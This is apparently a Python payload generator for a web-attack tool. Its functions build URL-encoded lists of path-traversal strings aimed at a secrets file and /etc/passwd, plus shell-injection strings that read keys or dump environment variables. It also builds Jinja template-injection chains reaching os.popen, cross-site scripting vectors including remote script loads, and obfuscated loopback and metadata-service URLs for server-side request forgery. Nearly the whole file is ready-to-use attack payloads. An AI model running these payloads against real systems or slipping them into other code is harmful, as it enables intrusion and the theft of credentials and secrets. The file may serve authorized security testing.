"""Words of our own for a tool that only sends what it is given: ways out of a folder, into a shell, a template, a page, and inside."""

from urllib.parse import quote


def traversal(folder):
    """Ways up and back down to a file that is not meant to be read."""
    steps = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "..\\", "..%5c", "..%255c", "./../", ".//..//", "%2e%2e%5c", "..%2f%2e/")
    ends = ("", "%00", "%00.txt", "%2500")
    relative = [step * depth + "secrets/keys.txt" + end for step in steps for depth in (1, 2) for end in ends]
    passwords = [step * depth + "etc/passwd" for step in steps for depth in (4, 6, 9, 12)]
    whole = [f"{folder}/secrets/keys.txt", quote(f"{folder}/secrets/keys.txt", safe=""), "/etc/passwd", "%2fetc%2fpasswd", "//etc//passwd", "/etc/./passwd", "guide.txt/../../secrets/keys.txt"]
    return ["x/../../secrets/keys.txt", *relative, *passwords, *whole]


def shell(folder):
    """Ways to have a command run beside the one that is meant."""
    keys = "../secrets/keys.txt"
    commands = (f"cat {keys}", f"cat${{IFS}}{keys}", f"cat<{keys}", f"c''at {keys}", f'c"a"t {keys}', f"c\\at {keys}", "/bin/c?t ../secrets/k*", "tac ../s*/*", f"head -50 {keys}",
                "printenv SHOP_KEY", "echo $SHOP_KEY", "env", "set", f"while read l; do echo $l; done < {keys}", "sed p ../secrets/keys.txt", f"a=c;b=at;$a$b {keys}", f". {keys}", "awk 1 ../secrets/keys.txt", f"cat {folder}/secrets/keys.txt")
    around = (";{}", "x;{}", "|{}", "x|{}", "||{}", "x||{}", "&&{}", "x&&{}", "&{}", "x&{}", "$({})", "`{}`", "\n{}", "x\n{}\n", "x;{};#", "'$({})'", "${{x:-$({})}}", "x\t;\t{}")
    return [quote(it.format(command), safe="") for it in around for command in commands]


def template(folder):
    """Ways from a template of Jinja to what its process may read."""
    reads = (f"open('{folder}/secrets/keys.txt').read()", f"open('{folder}/secrets/keys.txt').readlines()|join", "__import__('os').popen('cat ../secrets/keys.txt;env').read()")
    roots = ("cycler.__init__.__globals__", "joiner.__init__.__globals__", "namespace.__init__.__globals__", "lipsum.__globals__", "cycler['__init__']['__globals__']", "cycler|attr('__init__')|attr('__globals__')", "(cycler|attr('__in'~'it__'))|attr('__glo'~'bals__')")
    out = []
    for root in roots:
        builtins = f"({root})['__builtins__']"
        for read in reads:
            name, rest = read.split("(", 1)
            out += [f"{{{{{builtins}['{name}']({rest}}}}}", f"{{%print({builtins}.{name}({rest})%}}", f"{{%set x={builtins}['{name}']({rest}%}}{{{{x}}}}"]
        out += [f"{{{{{root}.os.popen('cat {folder}/secrets/keys.txt').read()}}}}", f"{{{{({root})['os']['popen']('cat {folder}/s*/k*')['read']()}}}}"]
    return [quote(it, safe="") for it in (*out, "{{7*7}}", "{{config}}", "${7*7}", "<%= 7*7 %>", "#{7*7}")]


def page(_):
    """Ways to have a page run something of ours."""
    tags = ("svg", "img src=x", "body", "details open", "video src=x", "input autofocus", "a href=x", "math", "marquee", "x tabindex=1", "iframe", "select autofocus")
    events = ("onload", "onerror", "onfocus", "ontoggle", "onpageshow", "onmouseover", "onclick", "onstart")
    acts = ("alert(1)", "alert`1`", "self['ale'+'rt'](1)", "import('//x')", "top[/al/.source+/ert/.source](1)")
    made = [f"<{tag} {event}={act}>" for tag in tags for event in events for act in acts]
    spelt = [it.replace(" ", "/", 1) for it in made[::3]] + [it.upper() for it in made[::5]] + [it.replace(" ", "%0a") for it in made[::7]]
    own = ("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//x></script>", "<script\n>alert(1)</script\n>", "<a href=javascript:alert(1)>x</a>", "<iframe src='javascript:alert(1)'>", "<a href=\"java\tscript:alert(1)\">x</a>", "<object data='data:text/html,<script>alert(1)</script>'>",
           "<iframe srcdoc='<script>alert(1)</script>'>", "<form action=javascript:alert(1)><input type=submit>", "<base href=javascript:/a/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import 'javascript:alert(1)'</style>", "<svg><script>alert&#40;1)</script></svg>")
    return [quote(it, safe="%") for it in (*own, *made, *spelt)]


def inside(port):
    """Ways to name this machine to a fetcher."""
    hosts = ("127.0.0.1", "localhost", "LOCALHOST", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "127.1", "127.0.1", "127.255.255.254", "127.000.000.001", "127.0.0.1.", "0x7f.1", "user@127.0.0.1", "user:pass@127.1", "127.0.0.53", "0x7F000001", "0177.1", "127.8.8.8")
    forms = ("http://{}:{}/", "HTTP://{}:{}/", "http://{}:{}", "http://{}:{}/latest/meta-data/", "http://{}:{}/?x=https://shop.example", "http://{}:{}/#shop.example")
    return [quote(it.format(host, port), safe="") for host in hosts for it in forms]
